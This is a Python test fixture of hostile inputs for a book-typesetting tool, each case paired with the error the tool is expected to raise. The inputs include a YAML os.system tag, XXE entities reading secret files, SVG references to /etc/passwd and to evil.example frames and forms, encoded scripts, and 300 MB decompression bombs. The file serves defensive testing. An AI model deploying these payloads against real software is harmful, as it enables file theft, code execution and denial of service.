"""More books: tricks with numbers, names, files that never end, sheets that grow, and escapes that hide characters."""

from __future__ import annotations

import base64
import gzip
import io
import struct
import zipfile
import zlib

from tests.hostile import pictures
from tests.hostile.attack import CANARY, Case, book
from tests.hostile.cases import BROKEN, PICTURE, drawing

HTML = 'xmlns:x="http://www.w3.org/1999/xhtml"'
SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'


def sheet(css: str, says: tuple[str, ...] | None = (), text: str = "甲。\n\n乙。", *, slow: bool = False) -> Case:
    """A book with a sheet of its author's."""
    return Case({**book(text, "css: a.css"), "a.css": css}, says, slow=slow)


def front(yaml: str, *says: str) -> Case:
    """A book with this front matter."""
    return Case(book("甲。", yaml), says)


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def _png(*chunks: bytes) -> bytes:
    """A good picture with more chunks behind its head."""
    plain = pictures.saved(pictures.plain(), "PNG")
    return plain[:33] + b"".join(chunks) + plain[33:]


def _bomb(name: bytes) -> bytes:
    """A chunk of text that unpacks to 300 MB."""
    packed = zlib.compress(b"0" * 300_000_000, 9)
    return _chunk(name, b"Comment\0\0" + packed if name == b"zTXt" else b"Comment\0\1\0\0\0" + packed)


def _zip() -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        archive.writestr("x.html", f"<script>{CANARY}</script>")
    return sink.getvalue()


NUMBERS: dict[str, Case] = {
    "a cell 100,000,000 columns wide": Case(
        book("<table><tr><td colspan='100000000'>甲</td></tr><tr><td>乙</td></tr></table>")
    ),
    "a cell 100,000,000 rows high": Case(
        book("<table><tr><td rowspan='100000000'>甲</td><td>乙</td></tr><tr><td>丙</td></tr></table>")
    ),
    "columns by the billion": Case(
        book("<table><colgroup span='999999999'></colgroup><col span='999999999'><tr><td>甲</td></tr></table>"),
        holds="甲",
    ),
    "cells that overlap a thousand times": Case(
        lambda: book(
            "<table>" + "".join(f"<tr><td colspan='1000' rowspan='1000'>{n}</td></tr>" for n in range(50)) + "</table>"
        )
    ),
    "a list that begins at a number of 400 digits": Case(book(f"<ol start='{'9' * 400}'><li>甲</li></ol>")),
    "a list that begins below zero": Case(book("<ol start='-99999999999999999999'><li>甲</li></ol>")),
    "an item of a number of 400 digits": Case(book(f"<ol><li value='{'9' * 400}'>甲</li></ol>")),
    "a picture as wide as the sky": Case(
        {**book("![甲](a.svg){width=1e300px}\n\n![乙](a.svg){height=99999999999999cm}"), "a.svg": SVG_HEAD + "</svg>"}
    ),
    "lines of code marked to the end of the world": Case(
        book(
            "```python {1-999999999999}\na = 1\n```\n\n```{.python hl_lines='1-99999999999' startFrom=1"
            + "0" * 50
            + "}\nb\n```"
        )
    ),
    "an include of lines to the end of the world": Case(
        {
            **book("{{#include a.md:1:99999999999999}}\n\n```\n{{#include a.md:0:" + "9" * 5000 + "}}\n```"),
            "a.md": "甲。\n",
        }
    ),
    "a heading of level 10^9": Case({"book.md": "# 章\n\n" + "#" * 9 + " 甲\n\n<h999999999>乙</h999999999>\n"}),
    "a grid of a million": front("grid: 1000000x1000000", "book.md:2 error[config-bad-value]"),
    "a page of a mile": front("page: 1609344mm x 1609344mm", "book.md:2 error[config-bad-value]"),
    "a page of a dot": front("page: 1mm x 1mm", "book.md:2 error[config-bad-value]"),
    "a size that is no number": front("size: .nan", "book.md:2 error[config-bad-value]"),
    "a lead without end": front("lead: 1e400", "book.md:2 error[config-bad-value]"),
    "a bleed of a mile": front("bleed: 1609344mm", "book.md:2 error[config-bad-value]"),
    "a depth of 5,000 digits": front(f"toc-depth: {'9' * 5000}", "book.md:2 error[config-bad-value]"),
    "a date of another calendar": front("date: 99999-99-99"),
}

FRONT: dict[str, Case] = {
    "a tag that runs": front("title: !!python/object/apply:os.system [id]", "book.md:2 error[yaml]"),
    "an alias of itself": front("title: &a [*a]", "book.md:2 error[yaml]"),
    "a merge": front("title: 甲\n<<: {author: 乙}", "book.md:3 error[config-unknown-key]"),
    "an escaped NUL in the title": front('title: "甲\\0乙"', "book.md:2 error[control-character]"),
    "an escaped bell in the author": front('author: ["甲\\a乙"]', "book.md:2 error[control-character]"),
    "an escaped half of a pair": front('description: "甲\\ud800乙"', "book.md:2 error[surrogate]"),
    "an escaped noncharacter": front('publisher: "甲\\uffff乙"', "book.md:2 error[control-character]"),
    "an escape beyond Unicode": front('title: "甲\\UffffffFF乙"', "book.md:2 error[yaml]"),
    "a title that turns about": Case(book("甲。", "title: 甲\u202e乙\u202c丙\nauthor: \u202e丁"), holds="甲"),
    "an escape in a bibliography": Case(
        {
            **book("甲[@a]。", "bibliography: a.json"),
            "a.json": '[{"id": "a", "type": "book", "title": "x\\u0000y\\ud800z", "author": [{"family": "\\uffff"}]}]',
        },
        ("a.json:1 error[control-character]", "a.json:1 error[surrogate]"),
    ),
    "a bibliography 100,000 deep": Case(
        {**book("甲[@a]。", "bibliography: a.json"), "a.json": "[" * 100_000},
        ("book.md:7 error[cite-unknown]", "a.json:1 error[bib-syntax]"),
    ),
    "a control character from the command": Case(
        book("甲。"), ("<command line>:1 error[control-character]",), options=("--set", "title=x\x01y")
    ),
    "10,000 keys": Case(lambda: book("甲。", "\n".join(f"x{n}: 1" for n in range(10_000))), None, slow=True),
    "a title of 1 MB": Case(lambda: book("甲。", "title: " + "甲" * 350_000), ("book.md:2 error[config-bad-value]",)),
    "a title and a subtitle as long as may be": Case(
        lambda: book("甲。", f"title: {'甲' * 2000}\nsubtitle: {'乙' * 2000}\nauthor: {'丙' * 2000}"), holds="甲"
    ),
    "10,000 authors": Case(lambda: book("甲。", f"author: [{', '.join(f'作者{n}' for n in range(10_000))}]"), ()),
    **{
        f"a bibliography with {what}": Case(
            {**book("甲[@a]。", "bibliography: a.bib"), "a.bib": f"@book{{a, title={{{title}}}, year=2020}}\n"},
            holds="甲",
        )
        for what, title in {
            "macros without what they are about": r"甲\href{javascript}\input\write18{x}\frac",
            "braces 5,000 deep": "{" * 5000 + "甲" + "}" * 5000,
            "macros 3,000 deep": r"\textbf{" * 3000 + "甲" + "}" * 3000,
            "a word of 1,900 letters": "甲 " + "a" * 1900,
        }.items()
    },
    "a style of NUL": front('style: "a\\0b"', "book.md:2 error[control-character]", "book.md:2 error[style-unknown]"),
}

FILES: dict[str, Case] = {
    "a picture of a name with NUL": Case(book("![甲](a%00.svg)"), ("book.md:3 error[image-missing]",)),
    "an include of a name with NUL": Case(book("{{#include a&#0;.md}}"), ("book.md:3 error[include-missing]",)),
    "a name of 10,000 characters": Case(
        lambda: book(f"![甲]({'a' * 10_000}.svg)\n\n{{{{#include {'a' * 10_000}.md}}}}"),
        ("book.md:3 error[image-missing]", "book.md:5 error[include-missing]"),
    ),
    "names of Windows": Case(
        {
            "book.md": "---\nchapters: [con.md, aux.md]\n---\n",
            "con.md": "# con\n\n![甲](nul.svg)\n",
            "aux.md": "# aux {#aux}\n\n甲。\n",
            "nul.svg": SVG_HEAD + "</svg>",
        }
    ),
    "chapters that are one file": Case(
        {"book.md": "---\nchapters: [a.md, ./a.md, b/../a.md]\n---\n", "a.md": "# 甲\n\n乙。\n"},
        ("book.md:2 error[chapter-duplicate]",),
    ),
    "a chapter that is a folder": Case(
        {"book.md": "---\nchapters: [a.md]\n---\n", "a.md/b.md": "# 甲\n"}, ("book.md:2 error[chapter-missing]",)
    ),
    "a picture that is a folder": Case({**book("![甲](a.svg)"), "a.svg/b.md": ""}, ("book.md:3 error[image-missing]",)),
    "a link that leads to itself": Case(
        book("![甲](a.svg)"), ("book.md:3 error[image-missing]",), links={"a.svg": "a.svg"}
    ),
    "two chapters that include each other": Case(
        {
            "book.md": "---\nchapters: [a.md, b.md]\n---\n",
            "a.md": "# 甲\n\n{{#include b.md}}\n",
            "b.md": "# 乙\n\n{{#include a.md}}\n",
        },
        ("a.md:3 error[include-loop]", "b.md:3 error[include-loop]"),
    ),
    "notes that call each other": Case(
        book("甲[^a]。\n\n[^a]: 乙[^b]。\n\n[^b]: 丙[^a]。"), ("book.md:5 error[note-circular]",)
    ),
    "a note that calls itself": Case(book("甲[^a]。\n\n[^a]: 乙[^a]。"), ("book.md:5 error[note-circular]",)),
    "notes 300 deep": Case(
        lambda: book("甲[^0]。\n\n" + "\n\n".join(f"[^{n}]: 乙[^{n + 1}]。" for n in range(300)) + "\n\n[^300]: 丙。"),
        ("book.md:21 error[nesting]",),
    ),
}

SHEETS: dict[str, Case] = {
    "a sheet with an import of data": sheet(
        "@import url(data:text/css,p{color:red}); p { color: blue }", ("a.css:1 error[css-address]",)
    ),
    "a sheet with an escaped address": sheet(
        "p { background: u\\72l(../secret.svg) }", ("a.css:1 error[css-address]",)
    ),
    "a sheet with a set of pictures": sheet(
        "p { background: image-set('../secret.svg' 1x, url(../secret.svg) 2x) }", ("a.css:1 error[css-address]",)
    ),
    "a sheet with src()": sheet("p { background: src('../secret.svg') }", ("a.css:1 error[css-address]",)),
    "a sheet with an attribute as address": sheet("p { content: attr(href url); background: attr(title url) }", None),
    "a sheet whose properties double": sheet(
        ":root { --a0: 哈哈哈哈哈哈哈哈; "
        + " ".join(f"--a{n}: {' '.join([f'var(--a{n - 1})'] * 10)};" for n in range(1, 10))
        + " } p::before { content: var(--a9) }",
        ("a.css:1 error[css-bounds]",),
    ),
    "a sheet whose properties turn in a ring": sheet(":root { --a: var(--b); --b: var(--a) } p { color: var(--a) }"),
    "a sheet of open braces": sheet("{" * 100_000, ("a.css:1 error[css-bounds]",)),
    "a sheet of open brackets": sheet("p { width: " + "calc(" * 10_000, ("a.css:1 error[css-bounds]",)),
    "a sheet of selectors in selectors": sheet(
        ":not(" * 3000 + "p" + ")" * 3000 + " { color: red }", ("a.css:1 error[css-bounds]",)
    ),
    "a sheet of 5,000 rules": sheet(
        "\n".join(f"p:nth-child({n}n+1) ~ p {{ color: red }}" for n in range(5000)), slow=True
    ),
    "a page without room": sheet("@page { margin: 1000mm }", ("error[outline-differs]",), text="甲。\n\n" * 50),
    "a page of nothing": sheet("@page { size: 0 0 }", None, text="甲。\n\n" * 50),
    "a page as wide as the earth": sheet("@page { size: 40000km 40000km }", ()),
    "a paragraph a mile high": sheet("p { height: 1609344mm }", None),
    "a paragraph a mile away": sheet("p { margin-top: 1e9mm; position: relative; top: 1e9mm }", None),
    "letters as large as the moon": sheet("p { font-size: 1e9px }", None),
    "letters of no size": sheet("p { font-size: 0; line-height: 0 }", None),
    "letters a mile apart": sheet(
        "p { letter-spacing: 1e9px; word-spacing: -1e9px; text-indent: -1e9px }", ("book.md:7 error[layout-stopped]",)
    ),
    "lines of no height": sheet("* { line-height: 0 !important }", None, text="甲乙丙丁。" * 500),
    "a million columns": sheet("section, body, p { columns: 1000000 }", None),
    "all things afloat": sheet("* { float: left; position: absolute; display: flex }", None),
    "nothing shown": sheet("* { display: none !important }", ("error[outline-differs]",)),
    "a counter of 10^400": sheet(
        "p { counter-increment: a 1" + "0" * 400 + " } p::before { content: counter(a, upper-roman) }", None
    ),
}

BITS: dict[str, Case] = {
    "a drawing with data in a drawing in a drawing": drawing(
        '<image href="data:image/svg+xml;base64,'
        + base64.b64encode((SVG_HEAD + '<image href="../secret.svg"/></svg>').encode()).decode()
        + '" width="9" height="9"/>'
    ),
    "a drawing with a picture in capitals": drawing('<image href="FILE:///etc/passwd" width="9" height="9"/>'),
    "a drawing with a base": Case(
        {
            **book(PICTURE),
            "a.svg": SVG_HEAD[:-1] + ' xml:base="file:///etc/"><image href="passwd" width="9" height="9"/></svg>',
        },
        BROKEN,
    ),
    "a drawing with a filter that fetches": drawing(
        '<filter id="f"><feImage href="../secret.svg"/></filter><rect filter="url(#f)" width="9" height="9"/>'
    ),
    "a drawing with an include": drawing(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="../secret.txt" parse="text"/>', BROKEN
    ),
    "a drawing with a parameter": drawing(
        "<text>&b;</text>",
        head='<!DOCTYPE svg [<!ENTITY % a SYSTEM "../secret.txt"> %a; <!ENTITY b "甲">]>',
        says=BROKEN,
    ),
    "a drawing of one long entity": drawing(
        "<text>" + "&a;" * 50_000 + "</text>", head=f'<!DOCTYPE svg [<!ENTITY a "{"哈" * 50_000}">]>', says=BROKEN
    ),
    "a drawing in UTF-16": Case(
        {
            **book(PICTURE),
            "a.svg": ('<?xml version="1.0" encoding="UTF-16"?>' + SVG_HEAD + "<script>x()</script></svg>").encode(
                "utf-16"
            ),
        },
        BROKEN,
    ),
    "a drawing in UTF-7": Case(
        {
            **book(PICTURE),
            "a.svg": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-svg xmlns=+ACI-http://www.w3.org/2000/svg+ACI-+AD4APA-script+AD4-x()+ADw-/script+AD4APA-/svg+AD4-',
        },
        BROKEN,
    ),
    "a drawing that is packed": Case({**book(PICTURE), "a.svg": gzip.compress((SVG_HEAD + "</svg>").encode())}, BROKEN),
    "a drawing with a style in escapes": drawing(
        "<style>rect { fill: u\\72 l(https://evil.example/x) }</style><rect width='9' height='9'/>"
    ),
    **{
        f"a drawing with HTML: {what}": drawing(f'<foreignObject width="9" height="9">{inner}</foreignObject>')
        for what, inner in {
            "a script": f"<x:script {HTML}>x()</x:script>",
            "a frame": f'<x:iframe {HTML} src="https://evil.example/"/>',
            "a picture": f'<x:img {HTML} src="https://evil.example/a.png"/>',
            "a set of pictures": f'<x:img {HTML} srcset="https://evil.example/a.png 2x"/>',
            "a film": f'<x:video {HTML} poster="https://evil.example/a.png"/>',
            "a form": f'<x:form {HTML} action="https://evil.example/"><x:input/></x:form>',
            "a sheet that imports": f"<x:style {HTML}>@import url(https://evil.example/x.css);</x:style>",
            "a ground": f'<x:table {HTML} background="https://evil.example/a.png"/>',
        }.items()
    },
    "a drawing with words of HTML": drawing(
        f'<foreignObject width="9" height="9"><x:div {HTML}><x:b>丁</x:b></x:div></foreignObject>', ()
    ),
    "a drawing with a link that runs behind a line end": drawing(
        '<a href="java&#10;script:x()"><rect width="9" height="9"/></a>'
    ),
    "a drawing with a link to a file": drawing('<a href="../secret.txt"><rect width="9" height="9"/></a>'),
    "a drawing with a link to another machine": drawing('<a href="//evil.example/"><rect width="9" height="9"/></a>'),
    "a drawing with notes of its maker": Case(
        {
            **book(PICTURE),
            "a.svg": f'<!--{CANARY}--><svg xmlns="http://www.w3.org/2000/svg" xmlns:e="urn:e" e:saved="{CANARY}" '
            f'content="{CANARY}" width="9" height="9"><metadata><e:a>{CANARY}</e:a></metadata><e:a>{CANARY}</e:a>'
            f"<?note {CANARY}?><text>丁<!--{CANARY}-->戊</text></svg>",
        }
    ),
    "a drawing turned and stretched beyond numbers": drawing(
        '<g transform="scale(1e308) scale(1e308)"><rect width="9" height="9"/></g>', ("book.md:5 error[image-failed]",)
    ),
    "a drawing seen through no numbers": Case(
        {**book(PICTURE), "a.svg": SVG_HEAD[:-1] + ' viewBox="nan 0 inf -5"><rect width="9" height="9"/></svg>'},
        ("book.md:5 error[image-failed]",),
    ),
    "a drawing with events of animation": drawing('<animate onbegin="x()" attributeName="x" dur="1s"/>'),
    "a drawing of a million points": Case(
        lambda: {**book(PICTURE), "a.svg": SVG_HEAD + '<path d="M0 0' + " L1 1" * 1_000_000 + '"/></svg>'},
        None,
        slow=True,
    ),
    "a drawing of dashes": drawing(
        '<path d="M0 0 L1e9 0" stroke="red" stroke-dasharray="0.0001" stroke-width="1"/>', ()
    ),
    "text in a chunk that is a bomb": Case(
        lambda: {**book("![甲](a.png)"), "a.png": _png(_bomb(b"zTXt"))}, ("book.md:3 error[image-broken]",)
    ),
    "text in an international chunk that is a bomb": Case(
        lambda: {**book("![甲](a.png)"), "a.png": _png(_bomb(b"iTXt"))}, ("book.md:3 error[image-broken]",)
    ),
    "a profile that is a bomb": Case(
        lambda: {
            **book("![甲](a.png)"),
            "a.png": _png(_chunk(b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 300_000_000, 9))),
        },
        ("book.md:3 error[image-broken]",),
    ),
    "a picture of 100,000 chunks": Case(
        lambda: {**book("![甲](a.png)"), "a.png": _png(*[_chunk(b"tEXt", b"a\0b")] * 100_000)}
    ),
    "a picture with an archive behind it": Case(
        lambda: {**book("![甲](a.png)"), "a.png": pictures.saved(pictures.plain(), "PNG") + _zip()}
    ),
    "a JPEG with an archive behind it": Case(
        lambda: {**book("![甲](a.jpg)"), "a.jpg": pictures.saved(pictures.plain(), "JPEG") + _zip()}
    ),
    "a GIF that is a script": Case(
        lambda: {
            **book("![甲](a.gif)"),
            "a.gif": pictures.saved(pictures.plain().convert("P"), "GIF") + f"/*<script>{CANARY}</script>*/".encode(),
        }
    ),
    "a GIF of 3,000 pictures": Case(
        lambda: {
            **book("![甲](a.gif)"),
            "a.gif": pictures.saved(
                pictures.plain().convert("P"),
                "GIF",
                save_all=True,
                append_images=[pictures.plain().convert("P").rotate(n) for n in range(3000)],
            ),
        }
    ),
    "a PDF named .png": Case({**book("![甲](a.png)"), "a.png": b"%PDF-1.7\n%%EOF"}, ("book.md:3 error[image-broken]",)),
}

WORDS: dict[str, Case] = {
    "entities that are no characters": Case(
        book(
            "甲&#xFFFE;&#xD800;&#1114112;&#99999999999999999999;&#xFFFFFFFFFFFF;乙。\n\n"
            '[丙](https://example.org "&#xFFFF;&#0;")\n\n<p title="&#xD800;&#1;">丁</p>'
        ),
        holds="丁",
    ),
    "noncharacters of other planes": Case(
        book("甲\U0001fffe\U0010ffff\ufdd0乙。"), ("book.md:3 error[glyph-missing]",)
    ),
    "tags of language and of interlinear notes": Case(
        book("甲\U000e0001\U000e0065\ufff9乙\ufffa丙\ufffb丁。"), ("book.md:3 error[control-character]",)
    ),
    "a line separator and a paragraph separator": Case(book("甲\u2028乙\u2029丙\x85丁。"), ()),
    "3,000 items": Case(lambda: book("- 甲\n" * 3000), slow=True),
    "items and quotes by turns": Case(
        lambda: book("".join("  " * n + ("- > " if n % 2 else "> - ") + "甲\n" for n in range(60))),
        ("book.md:41 error[nesting]",),
    ),
    "a definition of 2,000 terms": Case(lambda: book("".join(f"词{n}\n: 义。\n\n" for n in range(2000))), slow=True),
    "2,000 readings in a line": Case(lambda: book("{漢字|かん|じ}" * 2000), slow=True),
    "a reading of 20,000 characters": Case(lambda: book("{漢|" + "か" * 20_000 + "}"), ()),
    "an index entry 1,000 deep": Case(lambda: book(f'[甲]{{.index entry="{"!".join("甲" * 1000)}"}}'), ()),
    "a term in a thousand places": Case(lambda: book("[甲]{.index}乙。\n\n" * 1000), slow=True),
    "tags in tags of all kinds": Case(
        lambda: book("".join(f"<{a}>" for _ in range(300) for a in ("b", "i", "p", "table", "td", "a", "font"))),
        ("book.md:3 error[nesting]",),
    ),
    "attributes without end": Case(
        lambda: book("<p " + " ".join(f"a{n}=b" for n in range(20_000)) + ">甲</p>"), holds="甲"
    ),
    "a link of 1 MB": Case(lambda: book(f"[甲](https://example.org/{'a' * 1_000_000})"), ()),
    "a formula of 20,000 letters": Case(
        lambda: book("$$\n" + "x+" * 10_000 + "x\n$$"), ("book.md:3 error[math-invalid]",)
    ),
    "a formula of 2,500 cells": Case(
        lambda: book("$$\n\\begin{matrix}" + r"\\".join("&".join("x" * 50) for _ in range(50)) + "\\end{matrix}\n$$"),
        None,
    ),
    "a formula with a mile of space": Case(
        book(r"$$x\kern1000000em y\rule{99999em}{99999em}\hspace{1e9pt}$$"), ("book.md:3 error[math-invalid]",)
    ),
    "a heading of 900 that turns about": Case({"book.md": "# " + "\u202e甲\u2067乙" * 200 + "\n\n丙。\n"}, holds="丙"),
    "marks of all kinds to mend": Case(
        lambda: book("".join(mark * 3000 + "\n\n" for mark in (",", "。,", '"', "- ", "...", "( ", "１", " 甲 a"))),
        None,
        options=("--set", "lint=fix"),
        slow=True,
    ),
    "classes of the house": Case(
        book(
            '<span class="footnote">甲</span><div class="closing">乙</div>[丙]{.noteref}[丁]{.locators}'
            "[戊]{.page-ref}[己]{.math}"
        ),
        holds="甲乙丙丁戊己",
    ),
    "a tab title that is markup": Case(book('=== "<script>x()</script>"\n\n    甲。\n'), holds="甲"),
    "a code title that is markup": Case(book('```python title="<img src=x onerror=x()>"\n甲\n```'), ()),
}

ALL: dict[str, Case] = {**NUMBERS, **FRONT, **FILES, **SHEETS, **BITS, **WORDS}
